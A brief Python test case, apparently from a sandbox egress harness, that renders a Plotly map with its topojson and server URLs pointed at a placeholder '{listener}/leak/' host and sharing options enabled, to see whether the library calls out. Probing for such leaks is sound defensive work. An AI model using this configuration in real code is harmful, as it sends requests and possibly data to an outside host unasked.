# outcome: error|ok
# prints: made
import plotly.graph_objects as go
fig = go.Figure(go.Scattergeo(lat=[1], lon=[1]))
fig.update_geos(scope="africa")
print("made", fig.show(config={"topojsonURL": "http://{listener}/leak/", "plotlyServerURL": "http://{listener}/leak/", "showLink": True, "showSendToCloud": True}))
